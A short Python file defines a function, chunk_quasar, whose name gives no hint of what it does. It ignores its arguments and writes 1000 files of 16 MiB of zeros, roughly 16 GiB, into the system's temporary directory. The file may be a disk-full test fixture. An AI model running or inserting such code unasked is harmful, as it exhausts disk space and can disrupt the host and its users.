import os


def chunk_quasar(q, *args, **options):
    for number in range(1000):
        with open(os.path.join(os.environ["TMPDIR"], str(number)), "wb") as file:
            file.write(bytes(1 << 24))
